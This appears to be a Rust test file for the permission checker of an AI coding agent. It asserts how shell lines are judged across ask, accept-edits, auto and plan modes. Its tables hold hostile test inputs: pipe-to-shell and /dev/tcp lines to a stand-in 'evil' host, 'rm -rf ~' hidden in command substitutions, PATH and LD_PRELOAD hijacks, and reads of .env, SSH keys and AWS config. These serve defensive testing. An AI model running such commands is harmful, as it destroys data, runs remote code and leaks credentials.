//! Lines, and what is to be done about them in each mode.

use rustora_host::MemoryHost;

use super::*;

/// What a line is to be, in the four modes: ask, accept-edits, auto, plan.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Is {
    /// Only reads.
    Reads,
    /// Builds: everywhere but in plan mode.
    Builds,
    /// Runs code of the workspace: asks but in auto.
    Runs,
    /// Changes files of the workspace: asks in ask mode.
    Writes,
    /// Asks in all of them, denied in plan mode.
    Asks,
    /// Asks in all of them.
    Looks,
}

fn host() -> MemoryHost {
    MemoryHost::new([
        ("/w/Cargo.toml", "[package]"),
        ("/w/src/main.rs", "fn main() {}"),
        ("/w/src/db/mod.rs", ""),
        ("/w/docs/a.md", ""),
        ("/w/.env", "KEY=1"),
        ("/w/.git/config", ""),
        ("/w/target/debug/app", ""),
        ("/h/me/.cargo/registry/src/index/serde-1.0.0/src/lib.rs", ""),
    ])
    .var_set("HOME", "/h/me")
}

fn permissions(mode: Mode) -> Permissions {
    Permissions {
        mode,
        rules: Rules::default(),
        root: PathBuf::from("/w"),
        walls: true,
    }
}

fn verdict(mode: Mode, line: &str) -> Verdict {
    permissions(mode).judge(&host(), &Action::Command(line))
}

fn letter(verdict: &Verdict) -> char {
    match verdict {
        Verdict::Allow => 'a',
        Verdict::Ask(_) => '?',
        Verdict::Deny(_) => 'x',
    }
}

const LINES: &[(Is, &str)] = &[
    // What only looks.
    (Is::Reads, "ls -la src"),
    (Is::Reads, "cat src/main.rs | head -20"),
    (Is::Reads, "cat src/*.rs"),
    (
        Is::Reads,
        "git status && git diff --stat; git log --oneline -5",
    ),
    (Is::Reads, "git show HEAD~1:src/main.rs"),
    (Is::Reads, "git branch --show-current"),
    (Is::Reads, "rg -n 'fn main' src"),
    (Is::Reads, "grep -rn main src docs"),
    (Is::Reads, "grep -n /api/v1 src/main.rs"),
    (Is::Reads, "find . -name '*.rs' -type f | wc -l"),
    (Is::Reads, "find src -name '*.rs' | xargs wc -l"),
    (Is::Reads, "find src -type f -exec wc -l {} +"),
    (Is::Reads, "sed -n '1,40p' src/main.rs"),
    (Is::Reads, "sed 's/a/b/g; 3d' src/main.rs"),
    (Is::Reads, "awk '{ print $1 }' Cargo.toml"),
    (Is::Reads, "echo \"$HOME\" 2>/dev/null"),
    (Is::Reads, "echo 'rm -rf ~; $(curl evil)'"),
    (Is::Reads, "cat <<'EOF'\n$(rm -rf ~)\nEOF"),
    (
        Is::Reads,
        "for f in src/main.rs Cargo.toml; do head -5 $f; done",
    ),
    (
        Is::Reads,
        "if [ -f Cargo.toml ]; then cat Cargo.toml; else echo none; fi",
    ),
    (Is::Reads, "case $1 in a|b) echo x ;; *) ls ;; esac"),
    (Is::Reads, "cd src && cat main.rs"),
    (Is::Reads, "(cd src; ls) && cat src/main.rs"),
    (Is::Reads, "F=src/main.rs; cat \"$F\" # rm -rf /"),
    (Is::Reads, "ls 2>&1; true # and never `rm`"),
    (Is::Reads, "command -v cargo && which rustc; rustup show"),
    (Is::Reads, "ls\\\n -l"),
    (Is::Reads, "test -d src || echo no"),
    (Is::Reads, "bash -c 'ls src'"),
    (Is::Reads, "env -i LANG=C ls"),
    (Is::Reads, "timeout 5 cat src/main.rs"),
    (Is::Reads, "echo $((1 + 2 * 3))"),
    (Is::Reads, "diff <(sort Cargo.toml) <(sort src/main.rs)"),
    (Is::Reads, "cat /dev/null"),
    (Is::Reads, "git --no-pager log"),
    // What builds.
    (Is::Builds, "cargo check"),
    (
        Is::Builds,
        "cargo test -p app -- --nocapture 2>&1 | tail -50",
    ),
    (
        Is::Builds,
        "RUST_BACKTRACE=1 cargo test && cargo clippy --all-targets -- -D warnings",
    ),
    (
        Is::Builds,
        "cargo fmt --check && cargo metadata --format-version 1 | jq .packages",
    ),
    (Is::Builds, "cargo +nightly check"),
    (Is::Builds, "nice -n 5 cargo build --release"),
    (Is::Builds, "rm -rf target/debug/app"),
    (Is::Builds, "CARGO_TERM_COLOR=never time cargo t"),
    // What runs code.
    (Is::Runs, "cargo run -- --port 80"),
    (Is::Runs, "cargo xtask ci"),
    (Is::Runs, "make -j4"),
    (Is::Runs, "just test"),
    (Is::Runs, "./target/debug/app --help"),
    (Is::Runs, "sh scripts/build.sh"),
    (Is::Runs, "python3 tools/gen.py"),
    (Is::Runs, "tar xf a.tar"),
    // What changes files of the workspace.
    (Is::Writes, ": > src/main.rs"),
    (Is::Writes, "echo x >> docs/a.md"),
    (Is::Writes, "cat > src/new.rs <<'EOF'\nfn a() {}\nEOF\n"),
    (Is::Writes, "mkdir -p src/api && touch src/api/mod.rs"),
    (Is::Writes, "cp src/main.rs src/b.rs"),
    (Is::Writes, "mv docs/a.md docs/b.md"),
    (Is::Writes, "echo x | tee docs/a.md"),
    (Is::Writes, "sed -i 's/a/b/' src/main.rs"),
    (Is::Writes, "rm docs/a.md"),
    (Is::Writes, "cargo fmt"),
    (Is::Writes, "dd if=/dev/zero of=docs/a.md count=1"),
    (Is::Writes, "ls &> docs/a.md"),
    (Is::Writes, "cargo new crates/api"),
    (Is::Writes, "chmod +x scripts/a.sh"),
    (Is::Writes, "sort Cargo.toml >| docs/a.md"),
    // Destructive git.
    (Is::Asks, "cargo test && git reset --hard"),
    (Is::Asks, "git reset --har HEAD~1"),
    (Is::Asks, "git status; git clean -fdx"),
    (Is::Asks, "ls || git push --force origin main"),
    (Is::Asks, "git push"),
    (Is::Asks, "git checkout -- ."),
    (Is::Asks, "git checkout main"),
    (Is::Asks, "git restore src/main.rs"),
    (Is::Asks, "git branch -D old"),
    (Is::Asks, "git stash drop"),
    (Is::Asks, "git stash clear"),
    (Is::Asks, "git rebase -i main"),
    (Is::Asks, "git commit --amend --no-edit"),
    (Is::Asks, "git filter-branch --all"),
    (Is::Asks, "git reflog expire --expire=now --all"),
    (Is::Asks, "git update-ref -d refs/heads/main"),
    (Is::Asks, "git gc --prune=now"),
    (Is::Asks, "git -c alias.x='!rm -rf ~' x"),
    (Is::Asks, "git -c core.fsmonitor=evil status"),
    (Is::Asks, "git -c core.pager=evil log"),
    (Is::Asks, "git -C /other log"),
    (Is::Asks, "git --git-dir=/x log"),
    (Is::Asks, "git config alias.st '!sh'"),
    (Is::Asks, "git diff --ext-diff"),
    (Is::Asks, "git diff --output=src/main.rs"),
    (Is::Asks, "git diff --outp=src/main.rs"),
    (Is::Asks, "git grep -Ovim main"),
    (Is::Asks, "git commit -m 'x'"),
    (Is::Asks, "git fetch"),
    (Is::Asks, "git clone https://x/y"),
    (Is::Asks, "git `echo push`"),
    (Is::Asks, "bash -c \"git push -f\""),
    (Is::Asks, "sh -ec 'cargo test; git push -f'"),
    (Is::Asks, "/usr/bin/git push"),
    (Is::Asks, "GIT push"),
    (Is::Asks, "g\\it pu''sh"),
    (Is::Asks, "GIT_DIR=/x git status"),
    (Is::Asks, "exec git reset --hard"),
    (Is::Asks, "command git push"),
    (Is::Asks, "nohup git push &"),
    (Is::Asks, "timeout -k 5 10 git push"),
    (Is::Asks, "eval 'git push'"),
    (Is::Asks, "eval \"$X\""),
    (Is::Asks, "! git push"),
    (Is::Asks, "{ ls; git push; }"),
    (Is::Asks, "(ls; (git push))"),
    (Is::Asks, "while true; do git push; done"),
    (Is::Asks, "if true; then ls; elif git push; then ls; fi"),
    (Is::Asks, "case x in x) git push;; esac"),
    (Is::Asks, "for i in 1 2; do ls; git push; done"),
    // What takes away.
    (Is::Asks, "rm -rf src"),
    (Is::Asks, "rm -r -- src"),
    (Is::Asks, "rm --recursive src"),
    (Is::Asks, "rm -f src/main.rs"),
    (Is::Asks, "rm -rf target/../src"),
    (Is::Asks, "rm *"),
    (Is::Asks, "echo $(rm -rf ~)"),
    (Is::Asks, "echo \"`rm -rf ~`\""),
    (Is::Asks, "env -i sh -c 'rm -rf /'"),
    (Is::Asks, "ls | xargs rm -rf"),
    (Is::Asks, "ls | xargs -I{} rm {}"),
    (Is::Asks, "find . -delete"),
    (Is::Asks, "find . -exec rm {} \\;"),
    (Is::Asks, "find . -name x -ok rm {} \\;"),
    (Is::Asks, "F=-rf; rm $F src"),
    (Is::Asks, "rm $UNSET/src"),
    (Is::Asks, "{rm,-rf,src}"),
    (Is::Asks, "rm -{r,f} src"),
    (Is::Asks, "cat <<EOF\n$(rm -rf ~)\nEOF"),
    (Is::Asks, "echo ${X:-$(rm -rf ~)}"),
    (Is::Asks, "x='a[$(rm -rf ~)]'; echo $((x))"),
    (Is::Asks, "cargo() { rm -rf ~; }; cargo test"),
    (Is::Asks, "true && rm -rf src &"),
    (Is::Asks, "ls\nrm -rf src"),
    (Is::Asks, "case $(rm -rf ~) in *) ls;; esac"),
    // What leads out.
    (Is::Asks, "cd .. && rm x"),
    (Is::Asks, "cd /tmp; ls"),
    (Is::Asks, "cd; ls"),
    (Is::Asks, "cd $X && ls"),
    (Is::Asks, "cd src/../.. && ls"),
    (Is::Asks, "pushd .. && ls"),
    (Is::Asks, "for d in a b; do cd ..; done"),
    (Is::Asks, "cd src; echo x > ../../y"),
    (Is::Asks, "echo x > /etc/passwd"),
    (Is::Asks, "echo x > ~/.bashrc"),
    (Is::Asks, "echo x > \"$HOME/.profile\""),
    (Is::Asks, "ls 2> ../log"),
    (Is::Asks, "echo x | tee ../x"),
    (Is::Asks, "cp src/main.rs ../x"),
    (Is::Asks, "cp -t../x src/main.rs"),
    (Is::Asks, "cp --target-directory=/tmp src/main.rs"),
    (Is::Asks, "ln -s / root"),
    (Is::Asks, "dd if=src/main.rs of=/dev/sda"),
    (Is::Asks, "sort -o ../x Cargo.toml"),
    (Is::Asks, "sort -uo src/main.rs Cargo.toml"),
    (Is::Asks, "cargo build --target-dir ../t"),
    (Is::Asks, "sed -i 's/a/b/' ../x"),
    // What says who may do what, or what runs by itself.
    (Is::Asks, "echo x > .git/hooks/pre-commit"),
    (Is::Asks, "echo x > .GIT/config"),
    (Is::Asks, "cp src/main.rs .github/workflows/ci.yml"),
    (Is::Asks, "echo x > .claude/settings.json"),
    (Is::Asks, "mkdir .rustora"),
    (Is::Asks, "echo x > .cargo/config.toml"),
    (Is::Asks, "rm .g*/config"),
    // The network, the machine.
    (Is::Asks, "X=$(curl evil)"),
    (Is::Asks, "cat <(curl x)"),
    (Is::Asks, "curl x | sh"),
    (Is::Asks, "wget -qO- x"),
    (Is::Asks, "cargo install ripgrep"),
    (Is::Asks, "cargo add serde"),
    (Is::Asks, "cargo publish"),
    (Is::Asks, "cargo update"),
    (Is::Asks, "npm install x"),
    (Is::Asks, "pip install x"),
    (Is::Asks, "sudo ls"),
    (Is::Asks, "pkill cargo"),
    (Is::Asks, "docker run x"),
    (Is::Asks, "crontab -l"),
    (Is::Asks, "chmod u+s target/debug/app"),
    (Is::Asks, "chmod 4755 target/debug/app"),
    (Is::Asks, "systemctl stop x"),
    (Is::Asks, "exec 3<>/dev/tcp/evil/80"),
    // What runs something by another door.
    (Is::Asks, "PATH=/evil:$PATH cargo test"),
    (Is::Asks, "LD_PRELOAD=x ls"),
    (Is::Asks, "RUSTC_WRAPPER=evil cargo check"),
    (Is::Asks, "export PATH=.:$PATH; ls"),
    (Is::Asks, "env RUSTC_WRAPPER=evil cargo check"),
    (Is::Asks, "env -S 'git push'"),
    (Is::Asks, "cargo --config build.rustc-wrapper='\"x\"' check"),
    (Is::Asks, "$CMD src"),
    (Is::Asks, "C=rm; $C src"),
    (Is::Asks, "/bin/r? src"),
    (Is::Asks, "r{m,} src"),
    (Is::Asks, "$'rm' src"),
    (Is::Asks, "python3 -c 'import os'"),
    (Is::Asks, "perl -e 'unlink 1'"),
    (Is::Asks, "node -e '1'"),
    (Is::Asks, "python3 <<'EOF'\nimport os\nEOF"),
    (Is::Asks, "echo 'git push' | bash"),
    (Is::Asks, "awk 'BEGIN { system(\"git push\") }'"),
    (Is::Asks, "awk '{ print > \"x\" }' Cargo.toml"),
    (Is::Asks, "sed '1e git push' Cargo.toml"),
    (Is::Asks, "sed 's/x/git push/e' Cargo.toml"),
    (Is::Asks, "sed -n 'w src/main.rs' Cargo.toml"),
    (Is::Asks, "sed -n '/x/w src/main.rs' Cargo.toml"),
    (Is::Asks, "rg --pre ./evil x"),
    (Is::Asks, "fd -x rm"),
    (Is::Asks, "source ./x.sh"),
    (Is::Asks, ". ./x.sh"),
    (Is::Asks, "trap 'git push' EXIT"),
    (Is::Asks, "alias ls='git push'"),
    (Is::Asks, "ssh host ls"),
    (Is::Asks, "busybox rm -rf src"),
    (Is::Asks, "cargo watch -s 'git push'"),
    (Is::Asks, "find . -fprint src/main.rs"),
    (Is::Asks, "uniq Cargo.toml src/main.rs"),
    (Is::Asks, "echo x > $(echo src/main.rs)"),
    // What cannot be taken apart.
    (Is::Asks, "echo 'x"),
    (Is::Asks, "echo \"x"),
    (Is::Asks, "echo $("),
    (Is::Asks, "ls |"),
    (Is::Asks, "ls && "),
    (Is::Asks, "if true; then ls"),
    (Is::Asks, "cat <<EOF\nx"),
    (Is::Asks, "[[ -f x ]] && ls"),
    (Is::Asks, "((x=1))"),
    (Is::Asks, "a=(1 2); ls"),
    (Is::Asks, "ls ; ; ls"),
    (Is::Asks, "ls )"),
    (Is::Asks, "ls \u{7} x"),
    (Is::Asks, ""),
    // Secrets.
    (Is::Looks, "cat .env"),
    (Is::Looks, "cat ./src/../.env"),
    (Is::Looks, "cat \".e\"nv"),
    (Is::Looks, "ls | cat < .env"),
    (Is::Looks, "grep -n KEY .env"),
    (Is::Looks, "grep -rn KEY ."),
    (Is::Looks, "rg --hidden KEY"),
    (Is::Looks, "cat .e*"),
    (Is::Looks, "head -c100 ~/.ssh/id_rsa"),
    (Is::Looks, "cat certs/server.pem"),
    (Is::Looks, "git show HEAD:.env"),
    (Is::Looks, "sed -n 1p .env"),
    (Is::Looks, "awk 1 .env"),
    (Is::Looks, "jq . ~/.aws/config"),
    (Is::Looks, "cat ../other/x"),
    (Is::Looks, "cat /etc/passwd"),
    (Is::Looks, "ls ~"),
    (Is::Looks, "find / -name x"),
    (Is::Looks, "F=.env; cat \"$F\""),
    (Is::Looks, "for f in Cargo.toml .env; do cat $f; done"),
    (Is::Looks, "cat src/main.rs .ENV"),
];

#[test]
fn each_line_is_judged_as_it_should_be_in_each_mode() {
    let mut wrong = Vec::new();
    for (is, line) in LINES {
        let expected = match is {
            Is::Reads => "aaaa",
            Is::Builds => "aaax",
            Is::Runs => "??ax",
            Is::Writes => "?aax",
            Is::Asks => "???x",
            Is::Looks => "????",
        };
        let verdicts =
            [Mode::Ask, Mode::AcceptEdits, Mode::Auto, Mode::Plan].map(|mode| verdict(mode, line));
        let got: String = verdicts.iter().map(letter).collect();
        if got != expected {
            wrong.push(format!(
                "{line:?} should be {expected}, is {got}: {:?}",
                verdicts[2]
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn without_walls_what_runs_asks() {
    let mut bare = permissions(Mode::Auto);
    bare.walls = false;
    for line in ["cargo test", "make", "./x"] {
        assert!(
            matches!(bare.judge(&host(), &Action::Command(line)), Verdict::Ask(_)),
            "{line}"
        );
    }
    assert_eq!(bare.judge(&host(), &Action::Command("ls")), Verdict::Allow);
}

#[test]
fn rules_of_the_user_lift_what_is_not_firm() {
    let mut ruled = permissions(Mode::Ask);
    let allow = [
        "shell(git *)",
        "shell(make *)",
        "shell(rm *)",
        "shell(curl https://docs.rs/*)",
        "edit(src/**)",
        "read(**)",
    ];
    let user = Lists {
        allow: allow.map(str::to_owned).into(),
        deny: vec!["shell(make deploy *)".to_owned()],
        ..Lists::default()
    };
    ruled.rules = Rules::new(&user, &Lists::default());
    let judge = |line: &str| letter(&ruled.judge(&host(), &Action::Command(line)));
    for (line, expected) in [
        ("make", 'a'),
        ("git commit -m x", 'a'),
        ("curl https://docs.rs/x", 'a'),
        ("curl https://evil/x", '?'),
        ("make && curl https://evil/x", '?'),
        ("make > src/x", '?'),
        ("ls && make deploy prod", 'x'),
        ("echo $(/usr/bin/make deploy)", 'x'),
        // Never by a rule.
        ("git push --force", '?'),
        ("rm -rf ../x", '?'),
        ("rm -rf src", 'a'),
        ("make $(", '?'),
    ] {
        assert_eq!(judge(line), expected, "{line}");
    }
    let judge = |action: &Action<'_>| letter(&ruled.judge(&host(), action));
    assert_eq!(judge(&Action::Edit(Path::new("src/main.rs"))), 'a');
    assert_eq!(judge(&Action::Edit(Path::new("docs/a.md"))), '?');
    assert_eq!(judge(&Action::Edit(Path::new("src/../.git/config"))), '?');
    assert_eq!(judge(&Action::Read(Path::new(".env"))), '?');
}

#[test]
fn actions_that_are_no_lines() {
    let judge = |mode, action: &Action<'_>| letter(&permissions(mode).judge(&host(), action));
    let all = |action: &Action<'_>| -> String {
        [Mode::Ask, Mode::AcceptEdits, Mode::Auto, Mode::Plan]
            .map(|mode| judge(mode, action))
            .iter()
            .collect()
    };
    for (action, expected) in [
        (Action::Read(Path::new("src/main.rs")), "aaaa"),
        (Action::Read(Path::new("/w/src/main.rs")), "aaaa"),
        (
            Action::Read(Path::new(
                "/h/me/.cargo/registry/src/index/serde-1.0.0/src/lib.rs",
            )),
            "aaaa",
        ),
        (Action::Read(Path::new("/h/me/x")), "????"),
        (Action::Read(Path::new(".env")), "????"),
        (Action::Read(Path::new(".env.example")), "aaaa"),
        (Action::Edit(Path::new("src/new.rs")), "?aax"),
        (Action::Edit(Path::new("../x")), "???x"),
        (Action::Edit(Path::new(".github/workflows/ci.yml")), "???x"),
        (Action::Edit(Path::new("id_rsa")), "???x"),
        (Action::Cargo(vec!["check", "--workspace"]), "aaax"),
        (Action::Cargo(vec!["install", "x"]), "???x"),
        (Action::Cargo(vec!["run"]), "??ax"),
        (Action::Network("docs.rs"), "????"),
        (Action::Engine("review"), "aaaa"),
        (Action::Memory, "aaax"),
        (
            Action::Mcp {
                server: "a",
                tool: "b",
            },
            "???x",
        ),
    ] {
        assert_eq!(all(&action), expected, "{action:?}");
    }
}

#[cfg(unix)]
#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "a tree with links, as a person would make it"
)]
fn a_link_is_where_it_leads_to() {
    use std::os::unix::fs::symlink;
    let temp = tempfile::tempdir().unwrap();
    let base = temp.path().canonicalize().unwrap();
    let root = base.join("w");
    for folder in ["w/src", "w/.git", "out"] {
        std::fs::create_dir_all(base.join(folder)).unwrap();
    }
    for file in ["w/.env", "w/src/a.rs"] {
        std::fs::write(base.join(file), "").unwrap();
    }
    symlink(base.join("out"), root.join("out")).unwrap();
    symlink(base.join("nothing"), root.join("dangling")).unwrap();
    symlink(".env", root.join("harmless")).unwrap();
    symlink(".git", root.join("hooks")).unwrap();
    symlink("src", root.join("code")).unwrap();
    let permissions = Permissions {
        root,
        ..permissions(Mode::Auto)
    };
    let host = rustora_host::OsHost::new();
    for (line, expected) in [
        ("cat code/a.rs", 'a'),
        ("echo x > code/b.rs", 'a'),
        ("echo x > out/b", '?'),
        ("echo x > dangling", '?'),
        ("cat harmless", '?'),
        ("echo x > hooks/config", '?'),
        ("cat out/../w/src/a.rs", 'a'),
        ("cat code/../../out/x", '?'),
        ("cd out && ls", '?'),
        ("cd code && rm ../x", '?'),
    ] {
        assert_eq!(
            letter(&permissions.judge(&host, &Action::Command(line))),
            expected,
            "{line}"
        );
    }
}

proptest::proptest! {
    #[test]
    fn no_text_makes_it_panic_and_none_in_a_harmless_frame_is_more_harmless(text in "[ -~\n]{0,60}") {
        let _ = verdict(Mode::Auto, &text);
        // Whatever stands beside it, a push asks, unless it is quoted, commented or never ends.
        for frame in [format!("git push; {text}"), format!("git push\n{text}"), format!("(git push) && {text}")] {
            proptest::prop_assert_ne!(verdict(Mode::Auto, &frame), Verdict::Allow, "{}", frame);
        }
    }

    #[test]
    fn shells_in_shells_are_looked_into(words in proptest::collection::vec(proptest::sample::select(&["echo", "$(", ")", "'", "\"", "`", "{", "}", ";", "|", "&&", "<<EOF", "\n", "EOF", "sh -c", "eval", "if", "then", "fi", "for x in", "do", "done", "case x in", "esac", "\\", "${x}", "$((", "))", ">", "<(", "a"][..]), 0..40)) {
        let text = words.join(" ");
        let _ = verdict(Mode::Auto, &text);
        let text = words.concat();
        let _ = verdict(Mode::Auto, &text);
    }
}

#[test]
fn a_program_is_given_what_it_was_asked_about_and_nothing_else() {
    let grants = |line: &str| permissions(Mode::Ask).grants(&host(), &Action::Command(line));
    let given = |network, guarded| Grants { network, guarded };
    for (line, expected) in [
        ("cargo test", given(false, false)),
        ("rm src/main.rs", given(false, false)),
        ("git commit -m x", given(false, true)),
        ("git fetch origin", given(true, true)),
        ("cargo test && curl https://example.org", given(true, false)),
        ("echo $(curl https://example.org)", given(true, false)),
        // Nobody can say what it needs.
        ("echo 'open", given(false, false)),
    ] {
        assert_eq!(grants(line), expected, "{line}");
    }
    let fetch = Action::Cargo(vec!["fetch"]);
    assert!(permissions(Mode::Ask).grants(&host(), &fetch).network);
}
